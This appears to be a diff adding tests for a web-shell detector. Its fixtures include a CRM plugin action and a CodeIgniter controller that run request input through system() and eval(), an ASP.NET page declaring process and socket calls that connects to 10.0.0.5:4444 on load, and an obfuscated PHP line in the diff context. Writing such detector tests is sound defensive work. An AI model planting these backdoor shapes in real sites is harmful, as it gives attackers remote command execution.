@@ -812,3 +812,49 @@ $GLOBALS['f'] = $s{1}.$s{33}.$s{2}.$s{3}.$s{0}.$s{27};
     });
   });
 });
+
+describe('judgeWebShell: fourteenth session, tuning side', () => {
+  it("ranks a command run on a value from a framework's request object critical", () => {
+    // A CRM plugin's action: the request object's value handed to system().
+    const action = `<?php
+class Backup_Gateway_Action extends Vtiger_BasicAjax_Action {
+  public function checkPermission(Vtiger_Request $request) { return true; }
+  public function process(Vtiger_Request $request) { echo "<pre>"; system($request->get("cmd")); die; }
+}`;
+    expect(judge('/var/www/html/modules/Backup/actions/Gateway.php', action)).toMatchObject({
+      severity: 'critical',
+      reason: expect.stringMatching(/system\(\) on request input/),
+    });
+    const controller = `<?php class Tools extends CI_Controller { function run() { eval($this->input->post('c')); } }`;
+    expect(judge('/var/www/html/application/controllers/Tools.php', controller)?.severity).toBe(
+      'critical',
+    );
+    // The request's value used as data, and a command of the application's own.
+    const report = `<?php
+class Report_Action { public function process($request) {
+  $id = (int) $request->get('record');
+  exec('/usr/bin/wkhtmltopdf /tmp/report.html /tmp/report.pdf');
+  echo $id;
+} }`;
+    expect(judge('/var/www/html/modules/Report/actions/Pdf.php', report)?.severity).not.toBe(
+      'critical',
+    );
+  });
+
+  it("ranks an ASP.NET page declaring Windows' process and socket calls critical", () => {
+    const page = `<%@ Page Language="C#" %><script runat="server">
+[DllImport("kernel32.dll")]
+static extern bool CreateProcess(string app, string cmd, IntPtr pa, IntPtr ta, bool inherit, uint flags, IntPtr env, string dir, ref STARTUPINFO si, out PROCESS_INFORMATION pi);
+[DllImport("WS2_32.dll", SetLastError = true)]
+internal static extern IntPtr WSASocket(AddressFamily af, SocketType st, ProtocolType pt, IntPtr info, uint group, int flags);
+protected void Page_Load(object sender, EventArgs e) { Call("10.0.0.5", 4444); }
+</script>`;
+    expect(judge('/var/www/html/x.aspx', page)).toMatchObject({
+      severity: 'critical',
+      reason: expect.stringMatching(/process and socket calls together/),
+    });
+    // A page that only starts a process (already a command sink) is not said to use a socket.
+    const process = page.replace(/\[DllImport\("WS2_32[\s\S]*?flags\);\n/, '');
+    expect(judge('/var/www/html/x.aspx', process)?.reason ?? '').not.toMatch(/socket calls/);
+  });
+});
